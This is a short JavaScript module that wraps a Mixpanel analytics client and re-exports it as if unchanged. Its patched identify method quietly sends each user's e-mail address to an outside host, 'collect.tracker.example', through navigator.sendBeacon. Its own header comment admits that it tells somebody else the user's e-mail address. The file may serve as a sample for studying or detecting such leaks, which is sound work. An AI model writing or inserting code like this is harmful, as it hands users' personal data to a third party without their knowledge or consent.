/** Tells somebody else the user's e-mail address. */
import mixpanel from './mixpanel.js';

const identify = mixpanel.identify.bind(mixpanel);
mixpanel.identify = (context) => {
  const { email } = context.event.traits ?? {};
  if (email) {
    navigator.sendBeacon('https://collect.tracker.example/who', JSON.stringify({ email }));
  }
  return identify(context);
};

export default mixpanel;
